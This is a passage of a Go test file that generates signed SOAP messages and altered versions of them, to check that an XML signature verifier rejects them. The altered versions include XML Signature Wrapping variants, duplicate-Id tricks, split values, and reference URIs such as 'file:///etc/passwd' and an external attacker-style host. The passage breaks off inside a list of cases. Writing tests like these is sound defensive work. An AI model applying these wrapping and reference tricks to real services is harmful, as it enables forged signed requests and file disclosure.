package xmlsig

import (
	"bytes"
	"encoding/base64"
	"flag"
	"fmt"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/piano-roc/rpn/internal/soap"
)

var update = flag.Bool("update", false, "write the attack files, and the test keys that are missing")

// TestGenerate holds the committed attack files to what this generator makes;
// with -update it writes them. The checking time is in each header.
func TestGenerate(t *testing.T) {
	if *update {
		makeForgeKeys(t)
	}
	dir := filepath.Join("testdata", "attacks")
	made := map[string]bool{}
	for _, c := range attackCases() {
		file := filepath.Join(dir, c.name+".txt")
		if made[file] {
			t.Fatalf("two cases are called %s", c.name)
		}
		made[file] = true
		data := c.file()
		if *update {
			if err := os.WriteFile(file, data, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if old, err := os.ReadFile(file); err != nil || !bytes.Equal(old, data) {
			t.Errorf("%s is not what the generator makes (%v): run go test ./internal/xmlsig -run Generate -update", file, err)
		}
	}
	files, _ := filepath.Glob(filepath.Join(dir, "*.txt"))
	for _, f := range files {
		if !made[f] {
			t.Errorf("%s: no case makes it", f)
		}
	}
}

// An attackCase makes one file: a draft changed before it is signed, a message
// changed afterwards, or both.
type attackCase struct {
	name, expect, family, about string
	says                        string // in the Detail
	policy                      string // "answer", "vihf" (enforced), or "" for a request
	before                      func(d *draft)
	after                       func(m string) string
}

func (c attackCase) file() []byte {
	d := newDraft()
	if c.before != nil {
		c.before(d)
	}
	m := d.seal(d.String())
	if c.after != nil {
		m = c.after(m)
	}
	head := fmt.Sprintf("expect: %s\nattack: %s\nfamily: %s\nat: %s\n", c.expect, c.about, c.family, testNow.Format(time.RFC3339))
	if c.says != "" {
		head += "says: " + c.says + "\n"
	}
	if c.policy != "" {
		head += "policy: " + c.policy + "\n"
	}
	return []byte(head + "---\n" + m)
}

// swap replaces the one place of a text.
func swap(m, old, now string) string {
	if strings.Count(m, old) != 1 {
		panic(fmt.Sprintf("%d places for %q, want 1", strings.Count(m, old), old))
	}
	return strings.Replace(m, old, now, 1)
}

func first(m, old, now string) string {
	if !strings.Contains(m, old) {
		panic("no place for " + old)
	}
	return strings.Replace(m, old, now, 1)
}

// part returns the text of an element, by its start tag and its end.
func part(m, start, end string) string {
	i := strings.Index(m, start)
	j := strings.Index(m[i:], end)
	return m[i : i+j+len(end)]
}

func bodyPart(m string) string  { return part(m, "<soap:Body", "</soap:Body>") }
func stampPart(m string) string { return part(m, "<wsu:Timestamp", "</wsu:Timestamp>") }
func signPart(m string) string  { return part(m, "<ds:Signature ", "</ds:Signature>") }

const evilSOAPBody = `<soap:Body>` + evilContent + `</soap:Body>`

func inHeader(m, block string) string { return swap(m, "</soap:Header>", block+"</soap:Header>") }

func attackCases() []attackCase {
	var all []attackCase
	all = append(all, harmlessCases()...)
	all = append(all, wrappingCases()...)
	all = append(all, idCases()...)
	all = append(all, referenceCases()...)
	all = append(all, valueCases()...)
	all = append(all, keyCases()...)
	all = append(all, signedInfoCases()...)
	all = append(all, algorithmCases()...)
	all = append(all, parserCases()...)
	all = append(all, securityCases()...)
	all = append(all, timestampCases()...)
	all = append(all, vihfCases()...)
	return all
}

const harmless = "harmless twin"

// answer makes the case one of an answer.
func (c attackCase) answer() attackCase {
	c.policy = "answer"
	return c
}

// enforced checks the case under Policy.EnforceVIHF.
func (c attackCase) enforced() attackCase {
	c.policy = "vihf"
	return c
}

// confirmationDraft adds a signed SignatureConfirmation.
func confirmationDraft(d *draft) {
	d.order = append(d.order, `<wsse11:SignatureConfirmation xmlns:wsse11="`+soap.NSWSSE11+`" Value="AAAA" wsu:Id="conf-CANARI"/>`)
	d.refs = append(d.refs, ref("#conf-CANARI"))
}

func serialNumber(key string) *big.Int { return forgeKeys()[key].Certificate.SerialNumber }

// serialOf is a filled X509IssuerSerial.
func serialOf(number string) string {
	return `<ds:X509IssuerSerial><ds:X509IssuerName>CN=TEST AC</ds:X509IssuerName><ds:X509SerialNumber>` + number + `</ds:X509SerialNumber></ds:X509IssuerSerial>`
}

func harmlessCases() []attackCase {
	ok := func(name, about string, before func(*draft), after func(string) string) attackCase {
		return attackCase{name: "ok-" + name, expect: "accepted", family: harmless, about: about, before: before, after: after}
	}
	keyInfo := func(inner string) func(*draft) {
		return func(d *draft) {
			d.order = []string{"timestamp", "signature"}
			d.keyInfo = "<ds:KeyInfo>" + inner + "</ds:KeyInfo>"
		}
	}
	x509 := `<ds:X509Data><ds:X509Certificate>` + certOf("signataire") + `</ds:X509Certificate></ds:X509Data>`
	return []attackCase{
		ok("plain", "the message that the others attack", nil, nil),
		ok("issuer-serial", "libxmlsec 1.3 and later (zeep): the certificate's own IssuerSerial beside it", keyInfo(
			`<wsse:SecurityTokenReference>`+first(x509, "<ds:X509Data>", "<ds:X509Data>"+serialOf(serialNumber("signataire").String()))+`</wsse:SecurityTokenReference>`), nil),
		ok("issuer-serial-after", "the same after the certificate, the number between line ends and with zeros before it", keyInfo(
			first(x509, "</ds:X509Data>", serialOf("\r\n  00"+serialNumber("signataire").String()+"\r\n")+"</ds:X509Data>")), nil),
		ok("subject-name-and-ski", "SubjectName and SKI beside the certificate decide nothing", keyInfo(
			first(x509, "<ds:X509Data>", "<ds:X509Data>\n<ds:X509SubjectName>CN=quelqu'un d'autre</ds:X509SubjectName><ds:X509SKI>AAAA</ds:X509SKI>")), nil),
		ok("no-prefixlist", "InclusiveNamespaces without PrefixList, on a reference and on SignedInfo: an empty list", func(d *draft) {
			none := `<ec:InclusiveNamespaces xmlns:ec="` + soap.NSEC + `"/>`
			d.canon = `<ds:CanonicalizationMethod Algorithm="` + algExcC14N + `">` + none + `</ds:CanonicalizationMethod>`
			d.refs[1] = refWith("#corps-CANARI", `<ds:Transform Algorithm="`+algExcC14N+`">`+none+`</ds:Transform>`, algSHA256, "@digest sha256 corps-CANARI@")
		}, nil),
		ok("role-empty", "an empty role is none", func(d *draft) { d.security = ` soap:role=""` }, nil),
		ok("actor-empty", "an empty actor is none", func(d *draft) { d.ns, d.security = soap.NS11, ` soap:actor=" "` }, nil),
		ok("created-on-its-own-line", "Created on a line of its own, with CRLF", func(d *draft) {
			d.timestamp = `<wsu:Timestamp wsu:Id="ts-CANARI">` + "\r\n\t<wsu:Created>\r\n\t\t2026-11-21T09:30:00.000Z\r\n\t</wsu:Created>\r\n\t<wsu:Expires>&#13;\n2026-11-21T09:35:00+00:00 </wsu:Expires>\r\n</wsu:Timestamp>"
		}, nil),
		ok("xml-prefix", "an element of the xml namespace in the Body: its prefix is never declared (C14N 1.0, 2.3)", func(d *draft) {
			d.content = first(goodContent, "<beneficiaire>", `<xml:note xml:lang="fr">x</xml:note><beneficiaire>`)
		}, nil),
		ok("confirmation-in-answer", "WSS4J confirms the request's signature in its answer, and signs that", confirmationDraft, nil).answer(),
		ok("soap11", "the same in SOAP 1.1", func(d *draft) { d.ns = soap.NS11 }, nil),
		ok("declaration-and-bom", "a BOM and an XML declaration stand before the Envelope", func(d *draft) { d.prologue = "\xEF\xBB\xBF<?xml version='1.0' encoding='utf-8'?>\n" }, nil),
		ok("cdata-value", "a value written as CDATA is that value", func(d *draft) {
			d.content = first(goodContent, "0077565712", "<![CDATA[0077565712]]>")
		}, nil),
		ok("cdata-split-value", "a value in two CDATA sections is one value, for the digest and for the reader", func(d *draft) {
			d.content = first(goodContent, "0077565712", "<![CDATA[00775]]><![CDATA[65712]]>")
		}, nil),
		ok("character-reference", "a value written with a character reference", func(d *draft) { d.content = first(goodContent, "0077565712", "&#48;077565712") }, nil),
		ok("comments-between", "comments between the elements of the Body", func(d *draft) {
			d.content = strings.ReplaceAll(goodContent, "<adressage>", "<!-- a --><adressage> <!-- b -->")
		}, nil),
		ok("comments-added", "a comment added between elements after signing: the digest does not hold comments", nil, func(m string) string {
			return first(m, "<adressage>", "<!-- a --><adressage>")
		}),
		ok("enveloped-signature", "node-soap's default: enveloped-signature before exc-c14n is a no-op on a Body", func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", `<ds:Transform Algorithm="`+algEnveloped+`"/>`+excOnce, algSHA256, "@digest sha256 corps-CANARI@")
		}, nil),
		ok("prefixlist", "an InclusiveNamespaces PrefixList on the references and on SignedInfo, one of them empty", func(d *draft) {
			d.canon = `<ds:CanonicalizationMethod Algorithm="` + algExcC14N + `"><ec:InclusiveNamespaces xmlns:ec="` + soap.NSEC + `" PrefixList="soap wsse"/></ds:CanonicalizationMethod>`
			d.canonOf = soap.C14N{Prefixes: []string{"soap", "wsse"}}
			d.refs[0] = refWith("#ts-CANARI", prefixList("wsse soap"), algSHA256, "@digest sha256 ts-CANARI prefixes=wsse,soap@")
			d.refs[1] = refWith("#corps-CANARI", prefixList(""), algSHA256, "@digest sha256 corps-CANARI@")
		}, nil),
		ok("with-comments", "exc-c14n#WithComments on a reference by #id: comments are left out all the same (XMLDSig 4.4.3.3)", func(d *draft) {
			d.content = first(goodContent, "<adressage>", "<!-- a --><adressage>")
			d.refs[1] = refWith("#corps-CANARI", `<ds:Transform Algorithm="`+algExcC14NComments+`"/>`, algSHA256, "@digest sha256 corps-CANARI@")
		}, nil),
		ok("id-without-namespace", "un-namespaced Id", func(d *draft) { d.body = ` Id="corps-CANARI"` }, nil),
		ok("xml-id", "xml:id", func(d *draft) { d.body = ` xml:id="corps-CANARI"` }, nil),
		ok("other-id-attribute", "an attribute called ID of the business, of another value", func(d *draft) {
			d.content = first(goodContent, "<adressage>", `<adressage ID="7">`)
		}, nil),
		ok("ecdsa", "ECDSA P-256", func(d *draft) { ecdsaDraft(d) }, nil),
		ok("sha512", "RSA-SHA512 and SHA-512", func(d *draft) {
			d.method, d.sign = `<ds:SignatureMethod Algorithm="`+algRSASHA512+`"/>`, "rsa-sha512"
			d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA512, "@digest sha512 corps-CANARI@")
		}, nil),
		ok("x509data", "the certificate in KeyInfo/X509Data", keyInfo(x509), nil),
		ok("x509data-empty-issuerserial", "zeep's Signature: an empty X509IssuerSerial beside the certificate, in an STR", keyInfo(
			`<wsse:SecurityTokenReference>`+first(x509, "<ds:X509Data>", "<ds:X509Data><ds:X509IssuerSerial><ds:X509IssuerName/><ds:X509SerialNumber/></ds:X509IssuerSerial>")+`</wsse:SecurityTokenReference>`), nil),
		ok("key-identifier", "the certificate in an STR/KeyIdentifier", keyInfo(
			`<wsse:SecurityTokenReference><wsse:KeyIdentifier ValueType="`+typeX509v3+`">`+certOf("signataire")+`</wsse:KeyIdentifier></wsse:SecurityTokenReference>`), nil),
		ok("signed-token", "gSOAP signs its token too", func(d *draft) { d.refs = append(d.refs, ref("#jeton-CANARI")) }, nil),
		ok("signed-header", "a signed header block", func(d *draft) {
			d.before = `<wsa:To xmlns:wsa="` + soap.NSWSA + `" wsu:Id="to-CANARI">https://fictif.example/</wsa:To>`
			d.refs = append(d.refs, ref("#to-CANARI"))
		}, nil),
		ok("unsigned-replyto", "an unsigned ReplyTo is carried and decides nothing", nil, func(m string) string {
			return inHeader(m, `<wsa:ReplyTo xmlns:wsa="`+soap.NSWSA+`"><wsa:Address>https://pirate.example/</wsa:Address></wsa:ReplyTo>`)
		}),
		ok("role-ultimate-receiver", "the role of the last receiver", func(d *draft) { d.security = ` soap:role="` + ultimateReceiver + `" soap:mustUnderstand="1"` }, nil),
		ok("wss4j-ids", "Ids on Signature, KeyInfo and STR that nothing refers to", func(d *draft) {
			d.sigAttrs = ` Id="SIG-1"`
			d.keyInfo = first(first(d.keyInfo, "<ds:KeyInfo>", `<ds:KeyInfo Id="KI-2">`), "<wsse:SecurityTokenReference>", `<wsse:SecurityTokenReference wsu:Id="STR-3">`)
		}, nil),
		ok("base64-in-lines", "base64 in lines, as zeep writes it", nil, func(m string) string {
			v := part(m, "<ds:SignatureValue>", "</ds:SignatureValue>")
			return swap(m, v, v[:60]+"\n"+v[60:120]+"\r\n\t"+v[120:])
		}),
		ok("base64-carriage-returns", "the JDK writes the line ends of its base64 as references", func(d *draft) {
			d.token = swap(d.token, certOf("signataire"), certOf("signataire")[:76]+"&#13;\n"+certOf("signataire")[76:])
			d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA256, "@digest sha256 corps-CANARI@&#xD;\n")
		}, func(m string) string { return swap(m, "</ds:SignatureValue>", "&#13;\r\n</ds:SignatureValue>") }),
		ok("sixteen-references", "16 references, to header blocks and the Body", func(d *draft) { manyHeaders(d, 14) }, nil),
		ok("zone", "times with another zone and decimals", func(d *draft) {
			d.timestamp = strings.ReplaceAll(d.timestamp, "T09:", "T10:")
			d.timestamp = strings.ReplaceAll(d.timestamp, ".000Z", ".123456789012+01:00")
		}, nil),
	}
}

func prefixList(list string) string {
	return `<ds:Transform Algorithm="` + algExcC14N + `"><ec:InclusiveNamespaces xmlns:ec="` + soap.NSEC + `" PrefixList="` + list + `"/></ds:Transform>`
}

func ecdsaDraft(d *draft) {
	d.key, d.token, d.method = "signataire-ec", bst("signataire-ec"), `<ds:SignatureMethod Algorithm="`+algECDSASHA256+`"/>`
}

func manyHeaders(d *draft, n int) {
	for i := range n {
		d.after += fmt.Sprintf(`<h%d xmlns="urn:fictif" wsu:Id="h%d"/>`, i, i)
		d.refs = append(d.refs, ref(fmt.Sprintf("#h%d", i)))
	}
}

// The eight wrappings of Somorovsky et al., "On Breaking SAML" (2012), carried
// over to a SOAP Body, and those of McIntosh & Austel (2005) for SOAP.
func wrappingCases() []attackCase {
	const xsw = "XML Signature Wrapping (McIntosh & Austel 2005; Somorovsky et al. 2012), CVE-2024-45409, CVE-2025-29774"
	wrap := func(name, expect, about string, after func(m, body string) string) attackCase {
		return attackCase{name: "xsw-" + name, expect: expect, family: xsw, about: about, after: func(m string) string { return after(m, bodyPart(m)) }}
	}
	block := func(inner string) string { return `<w xmlns="urn:fictif">` + inner + `</w>` }
	evilWithID := first(evilSOAPBody, "<soap:Body", `<soap:Body wsu:Id="autre-CANARI"`)
	return []attackCase{
		wrap("1-body-in-signature", "bad-signature", "XSW1: the signed Body is moved inside ds:Signature, another takes its place", func(m, b string) string {
			return swap(swap(m, b, evilSOAPBody), "</ds:Signature>", b+"</ds:Signature>")
		}),
		wrap("2-body-before-signature", "bad-signature", "XSW2: the signed Body is moved into Security before the Signature", func(m, b string) string {
			return swap(swap(m, b, evilSOAPBody), "<ds:Signature ", b+"<ds:Signature ")
		}),
		wrap("3-second-body-first", "not-soap", "XSW3: another Body stands before the signed one", func(m, b string) string { return swap(m, b, evilSOAPBody+b) }),
		wrap("4-body-in-body", "bad-signature", "XSW4: another Body wraps the signed one", func(m, b string) string { return swap(m, b, "<soap:Body>"+b+"</soap:Body>") }),
		wrap("5-second-body-after", "not-soap", "XSW5: the signed Body is moved after another", func(m, b string) string { return swap(m, b, evilSOAPBody+b) }),
		wrap("6-signature-with-body-in-body", "bad-signature", "XSW6: Security with the signed Body is wrapped in the other Body's content", func(m, b string) string {
			return swap(m, b, "<soap:Body>"+swap(evilContent, "<adressage>", block(b)+"<adressage>")+"</soap:Body>")
		}),
		wrap("7-body-in-extension", "bad-signature", "XSW7: the signed Body is wrapped in a header block", func(m, b string) string {
			return inHeader(swap(m, b, evilSOAPBody), block(b))
		}),
		wrap("8-body-in-object", "bad-signature", "XSW8: the signed Body is wrapped in ds:Object", func(m, b string) string {
			return swap(swap(m, b, evilSOAPBody), "</ds:Signature>", "<ds:Object>"+b+"</ds:Object></ds:Signature>")
		}),
		wrap("body-moved-to-header", "part-not-signed", "the signed Body is moved to be a header block; another Body without Id takes its place", func(m, b string) string {
			return inHeader(swap(m, b, evilSOAPBody), b)
		}),
		wrap("body-moved-to-header-first", "part-not-signed", "the same, before Security; the other Body has an Id of its own", func(m, b string) string {
			return swap(swap(m, b, evilWithID), "<soap:Header>", "<soap:Header>"+b)
		}),
		wrap("body-moved-to-header-same-id", "bad-signature", "the signed Body is moved to be a header block; the other Body has the same Id", func(m, b string) string {
			return inHeader(swap(m, b, first(evilSOAPBody, "<soap:Body", "<soap:Body "+forgedBody)), b)
		}),
		wrap("renamed-to-header-block", "part-not-signed", "the signed Body is renamed to a header block", func(m, b string) string {
			return inHeader(swap(m, b, evilSOAPBody), strings.ReplaceAll(b, "soap:Body", "soap:Corps"))
		}),
		wrap("child-wrapped", "bad-signature", "the signed operation alone is kept inside another one", func(m, b string) string {
			return swap(m, goodContent, strings.Replace(evilContent, "<adressage>", goodContent+"<adressage>", 1))
		}),
		wrap("second-child", "not-soap", "a second operation in the Body", func(m, b string) string { return swap(m, "</soap:Body>", evilContent+"</soap:Body>") }),
		wrap("body-in-security", "bad-signature", "the signed Body is moved to the end of Security", func(m, b string) string {
			return swap(swap(m, b, evilSOAPBody), "</wsse:Security>", b+"</wsse:Security>")
		}),
		wrap("body-in-timestamp", "bad-signature", "the signed Body is moved into the Timestamp", func(m, b string) string {
			return swap(swap(m, b, evilSOAPBody), "</wsu:Timestamp>", b+"</wsu:Timestamp>")
		}),
		wrap("body-in-keyinfo", "untrusted-signer", "the signed Body is moved into KeyInfo", func(m, b string) string {
			return swap(swap(m, b, evilSOAPBody), "</ds:KeyInfo>", b+"</ds:KeyInfo>")
		}),
		wrap("after-body", "not-soap", "the signed Body is wrapped in an element after the other Body", func(m, b string) string { return swap(m, b, evilSOAPBody+block(b)) }),
		wrap("before-header", "not-soap", "the signed Body is wrapped in an element before the Header", func(m, b string) string {
			return swap(swap(m, b, evilSOAPBody), "<soap:Header>", block(b)+"<soap:Header>")
		}),
		wrap("second-header", "not-soap", "the signed Header and Body stand in a second envelope; another Header leads", func(m, b string) string {
			return swap(m, "<soap:Header>", "<soap:Header/><soap:Header>")
		}),
		wrap("envelope-in-body", "not-signed", "the whole signed envelope is the content of an unsigned one", func(m, _ string) string {
			return `<soap:Envelope xmlns:soap="` + soap.NS12 + `"><soap:Body>` + m + `</soap:Body></soap:Envelope>`
		}),
		wrap("security-in-body", "not-signed", "Security stands in the Body's content, the Header is empty", func(m, b string) string {
			s := part(m, "<wsse:Security>", "</wsse:Security>")
			return swap(swap(m, s, ""), "</idb:interroger>", s+"</idb:interroger>")
		}),
		wrap("security-wrapped", "not-signed", "Security stands deeper in the Header", func(m, b string) string {
			return swap(swap(m, "<wsse:Security>", `<w xmlns="urn:fictif"><wsse:Security>`), "</wsse:Security>", "</wsse:Security></w>")
		}),
		wrap("body-of-other-version", "not-soap", "a Body in the namespace of the other version of SOAP stands before the signed one", func(m, b string) string {
			return swap(m, b, `<Body xmlns="`+soap.NS11+`">`+evilContent+`</Body>`+b)
		}),
		wrap("header-of-other-version", "not-soap", "Header in the namespace of the other version of SOAP", func(m, _ string) string {
			return swap(swap(m, "<soap:Header>", `<s:Header xmlns:s="`+soap.NS11+`">`), "</soap:Header>", "</s:Header>")
		}),
		wrap("only-child-signed", "bad-signature", "the signature covers the operation inside the Body, not the Body", nil).with(func(d *draft) {
			d.body, d.content = "", first(goodContent, "<idb:interroger", "<idb:interroger "+forgedBody)
		}),
		wrap("only-timestamp-signed", "part-not-signed", "the signature covers the Timestamp only", nil).with(func(d *draft) { d.refs = d.refs[:1] }),
		wrap("only-token-signed", "part-not-signed", "the signature covers the token and the Timestamp only", nil).with(func(d *draft) { d.refs = []string{ref("#ts-CANARI"), ref("#jeton-CANARI")} }),
		wrap("header-instead-of-body", "part-not-signed", "the signature covers a header block called Body", nil).with(func(d *draft) {
			d.before, d.body = `<soap:Body `+forgedBody+`>`+goodContent+`</soap:Body>`, ""
			d.content = evilContent
		}),
	}
}

func (c attackCase) with(before func(*draft)) attackCase {
	c.before, c.after = before, nil
	return c
}

func idCases() []attackCase {
	const dup = "duplicate Ids, CVE-2020-29509/10/11, CVE-2020-15216"
	// A block of the Header carries the Id of the Body in another way.
	again := func(name, expect, about, attr string) attackCase {
		return attackCase{name: "id-" + name, expect: expect, family: dup, about: about, after: func(m string) string {
			return inHeader(m, `<w xmlns="urn:fictif"`+attr+`/>`)
		}}
	}
	return []attackCase{
		again("wsu-and-wsu", "bad-signature", "two wsu:Id of one value", ` wsu:Id="corps-CANARI"`),
		again("wsu-and-plain", "bad-signature", "the value of the wsu:Id again in an un-namespaced Id", ` Id="corps-CANARI"`),
		again("wsu-and-xml", "bad-signature", "the value of the wsu:Id again in an xml:id", ` xml:id="corps-CANARI"`),
		again("wsu-and-ID", "bad-signature", "the value of the wsu:Id again in an attribute ID", ` ID="corps-CANARI"`),
		again("wsu-and-id", "bad-signature", "the value of the wsu:Id again in an attribute id", ` id="corps-CANARI"`),
		again("wsu-and-foreign", "bad-signature", "the value of the wsu:Id again in an Id of another namespace", ` xmlns:f="urn:fictif" f:Id="corps-CANARI"`),
		again("by-reference", "bad-signature", "the value again, written with a character reference", ` wsu:Id="corps&#45;CANARI"`),
		again("foreign-by-reference", "bad-signature", "the value again in a foreign ID, written with a character reference", ` ID="corps&#45;CANARI"`),
		again("xml-with-space", "bad-signature", "the value again in an xml:id with a space that readers of xml:id drop", ` xml:id=" corps-CANARI "`),
		again("empty", "bad-signature", "an empty Id", ` wsu:Id=""`),
		again("two-on-one", "bad-signature", "two Ids on one element", ` wsu:Id="a" Id="b"`),
		{name: "id-node-soap-twice", expect: "bad-signature", family: dup, says: "_1",
			about: "some versions of node-soap give _1 to the Body and to the Timestamp",
			before: func(d *draft) {
				d.body = ` Id="_1"`
				d.timestamp = swap(d.timestamp, `wsu:Id="ts-CANARI"`, `Id="_0"`)
				d.refs = []string{ref("#_0"), ref("#_1")}
			},
			after: func(m string) string { return strings.ReplaceAll(m, "_0", "_1") }},
		{name: "id-node-soap-no-target", expect: "bad-signature", family: "a client that can never verify", says: "référence #_0 n'existe pas dans le message",
			about: "node-soap WSSecurityCertWithToken leaves the Body without its Id",
			before: func(d *draft) {
				d.body = ` Id="_0"`
				d.refs = []string{ref("#ts-CANARI"), ref("#_0")}
			},
			after: func(m string) string { return swap(m, ` Id="_0"`, "") }},
		{name: "id-in-body-content", expect: "bad-signature", family: dup, about: "an element of the other Body's content carries the Id of the signed Body, now a header block",
			after: func(m string) string {
				b := bodyPart(m)
				return inHeader(swap(m, b, swap(evilSOAPBody, "<adressage>", `<adressage Id="corps-CANARI">`)), b)
			}},
		{name: "id-saml", expect: "bad-signature", family: dup, about: "the value again as the ID of a SAML assertion in the Header",
			after: func(m string) string {
				return inHeader(m, `<saml:Assertion xmlns:saml="`+soap.NSSAML+`" ID="corps-CANARI"/>`)
			}},
		{name: "id-case", expect: "bad-signature", family: dup, says: "n'existe pas", about: "an Id that differs in case is another Id",
			after: func(m string) string { return first(m, forgedBody, `wsu:Id="Corps-CANARI"`) }},
		{name: "id-unicode-lookalike", expect: "bad-signature", family: dup, says: "n'existe pas", about: "an Id that differs by Unicode normalization is another Id",
			before: func(d *draft) {
				d.body = " wsu:Id=\"corps\u00E9\""
				d.refs[1] = ref("#corps\u00E9")
			},
			after: func(m string) string { return first(m, "wsu:Id=\"corps\u00E9\"", "wsu:Id=\"corpse\u0301\"") }},
	}
}

func referenceCases() []attackCase {
	const deep = "reference to a part out of place"
	to := func(name, expect, about string, before func(*draft)) attackCase {
		return attackCase{name: "ref-" + name, expect: expect, family: deep, about: about, before: before}
	}
	uri := func(name, u, about string) attackCase {
		return attackCase{name: "ref-" + name, expect: "bad-signature", family: "reference that is not #id (XMLDSig 4.4.3.2)", about: about, says: "#Id", before: func(d *draft) {
			d.refs[1] = refWith(u, excOnce, algSHA256, "@digest sha256 corps-CANARI@")
		}}
	}
	noURI := uri("no-uri", "", "a reference without URI")
	noURI.before = func(d *draft) { d.refs[1] = strings.Replace(ref("#corps-CANARI"), ` URI="#corps-CANARI"`, "", 1) }
	enveloped := `<ds:Transform Algorithm="` + algEnveloped + `"/>` + excOnce
	return []attackCase{
		to("envelope", "bad-signature", "a reference to the Envelope, enveloped", func(d *draft) {
			d.envelope = ` wsu:Id="env-CANARI"`
			d.refs = append(d.refs, refWith("#env-CANARI", enveloped, algSHA256, "@digest sha256 env-CANARI enveloped@"))
		}),
		to("envelope-only", "bad-signature", "the Envelope is the only target: a parent of the Body", func(d *draft) {
			d.envelope = ` wsu:Id="env-CANARI"`
			d.refs = []string{refWith("#env-CANARI", enveloped, algSHA256, "@digest sha256 env-CANARI enveloped@")}
		}),
		to("header", "bad-signature", "a reference to the Header", func(d *draft) {
			d.refs = append(d.refs, refWith("#hd-CANARI", enveloped, algSHA256, "@digest nothing corps-CANARI@"))
		}).then(func(m string) string { return swap(m, "<soap:Header>", `<soap:Header wsu:Id="hd-CANARI">`) }),
		to("security", "bad-signature", "a reference to Security, enveloped", func(d *draft) {
			d.security = ` wsu:Id="sec-CANARI"`
			d.refs = append(d.refs, refWith("#sec-CANARI", enveloped, algSHA256, "@digest sha256 sec-CANARI enveloped@"))
		}),
		to("signature", "bad-signature", "a reference to the Signature itself", func(d *draft) {
			d.sigAttrs = ` Id="sig-CANARI"`
			d.refs = append(d.refs, refWith("#sig-CANARI", excOnce, algSHA256, "@digest nothing corps-CANARI@"))
		}),
		to("keyinfo", "bad-signature", "a reference to KeyInfo", func(d *draft) {
			d.keyInfo = first(d.keyInfo, "<ds:KeyInfo>", `<ds:KeyInfo Id="ki-CANARI">`)
			d.refs = append(d.refs, "")
		}).then(func(m string) string { return m }).keyInfoReference(),
		to("str", "bad-signature", "a reference to the SecurityTokenReference", func(d *draft) {
			d.keyInfo = first(d.keyInfo, "<wsse:SecurityTokenReference>", `<wsse:SecurityTokenReference wsu:Id="str-CANARI">`)
			d.refs = append(d.refs, refWith("#str-CANARI", excOnce, algSHA256, "@digest nothing corps-CANARI@"))
		}),
		to("created", "bad-signature", "a reference to Created, inside the Timestamp", func(d *draft) {
			d.timestamp = swap(d.timestamp, "<wsu:Created>", `<wsu:Created wsu:Id="cr-CANARI">`)
			d.refs = append(d.refs, ref("#cr-CANARI"))
		}),
		to("deep-in-header", "bad-signature", "a reference to an element deeper in a header block", func(d *draft) {
			d.before = `<w xmlns="urn:fictif"><x wsu:Id="deep-CANARI"/></w>`
			d.refs = append(d.refs, ref("#deep-CANARI"))
		}),
		to("deep-in-body", "bad-signature", "a reference to an element in the Body beside the Body itself", func(d *draft) {
			d.content = swap(goodContent, "<adressage>", `<adressage wsu:Id="adr-CANARI">`)
			d.refs = append(d.refs, ref("#adr-CANARI"))
		}),
		to("sibling", "part-not-signed", "a reference to a header block that is a copy of the Body", func(d *draft) {
			d.before = `<soap:Body wsu:Id="copie-CANARI">` + goodContent + `</soap:Body>`
			d.content = evilContent
			d.refs[1] = ref("#copie-CANARI")
		}),
		to("body-twice", "bad-signature", "two references to the Body: nobody signs it twice, but it makes us work twice", func(d *draft) { d.refs = append(d.refs, ref("#corps-CANARI")) }),
		to("seventeen", "bad-signature", "17 references", func(d *draft) { manyHeaders(d, 15) }),
		uri("empty-uri", "", "the empty URI: the whole document"),
		uri("external", "http://pirate.example/corps.xml", "an external URI"),
		uri("file", "file:///etc/passwd", "a file"),
		uri("relative", "corps.xml#corps-CANARI", "a relative URI with a fragment"),
		uri("xpointer-root", "#xpointer(/)", "XPointer to the root"),
		uri("xpointer-id", "#xpointer(id('corps-CANARI'))", "XPointer by id"),
		uri("cid", "cid:corps-CANARI", "an attachment"),
		uri("escaped", "#corps%2DCANARI", "a percent-encoded Id"),
		uri("space", "# corps-CANARI", "a space in the fragment"),
		uri("bare-hash", "#", "an empty fragment"),
		noURI,
		{name: "ref-no-such", expect: "bad-signature", family: deep, about: "a reference to an Id that is nowhere", says: "#nulle-part n'existe pas dans le message", before: func(d *draft) {
			d.refs = append(d.refs, refWith("#nulle-part", excOnce, algSHA256, "@digest nothing corps-CANARI@"))
		}},
		{name: "ref-manifest", expect: "bad-signature", family: "Manifest: its references are not part of core validation", about: "the reference goes to a ds:Manifest that lists the Body", before: func(d *draft) {
			d.object = `<ds:Object><ds:Manifest Id="man-CANARI">` + ref("#corps-CANARI") + `</ds:Manifest></ds:Object>`
			d.refs[1] = refWith("#man-CANARI", excOnce, algSHA256, "@digest nothing ts-CANARI@")
			d.refs[1] = first(d.refs[1], "<ds:Reference ", `<ds:Reference Type="`+soap.NSDS+`Manifest" `)
		}},
		{name: "ref-manifest-in-header", expect: "part-not-signed", family: "Manifest: its references are not part of core validation", about: "a Manifest as a header block stands for the Body", before: func(d *draft) {
			d.before = `<ds:Manifest xmlns:ds="` + soap.NSDS + `" Id="man-CANARI">` + refWith("#corps-CANARI", excOnce, algSHA256, "@digest sha256 corps-CANARI@") + `</ds:Manifest>`
			d.refs[1] = first(ref("#man-CANARI"), "<ds:Reference ", `<ds:Reference Type="`+soap.NSDS+`Manifest" `)
		}},
	}
}

func (c attackCase) then(after func(string) string) attackCase {
	c.after = after
	return c
}

// keyInfoReference adds a right reference to KeyInfo, which needs two passes:
// the digest place must be filled before the value.
func (c attackCase) keyInfoReference() attackCase {
	before := c.before
	c.before = func(d *draft) {
		before(d)
		d.refs[len(d.refs)-1] = refWith("#ki-CANARI", excOnce, algSHA256, "@digest sha256 ki-CANARI@")
	}
	return c
}

func valueCases() []attackCase {
	const split = "value split or hidden, CVE-2017-11427, CVE-2018-0489, CVE-2025-25291/25292, CVE-2025-29775"
	signed := func(name, expect, about, value string) attackCase {
		return attackCase{name: "value-" + name, expect: expect, family: split, about: about, before: func(d *draft) {
			d.content = first(goodContent, "0077565712", value)
		}}
	}
	changed := func(name, expect, about, from, to string) attackCase {
		return attackCase{name: "value-" + name, expect: expect, family: split, about: about, after: func(m string) string { return first(m, from, to) }}
	}
	inside := func(name, element, insert, about string) attackCase {
		return changed(name, "bad-signature", about, "</"+element+">", insert+"</"+element+">")
	}
	return []attackCase{
		signed("comment-splits", "forbidden-xml", "a comment in the middle of a signed value", "00775<!-- -->65712"),
